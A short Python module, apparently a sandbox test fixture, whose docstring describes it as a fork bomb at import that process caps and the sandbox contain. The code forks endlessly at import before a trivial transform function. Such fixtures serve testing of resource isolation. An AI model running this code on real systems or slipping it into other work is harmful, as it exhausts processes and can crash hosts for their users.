"""A fork bomb at import: every child forks again, forever. The process cap
(cgroup pids / RLIMIT_NPROC) stops it; the sandbox kills what is left."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def transform(x):
    return x
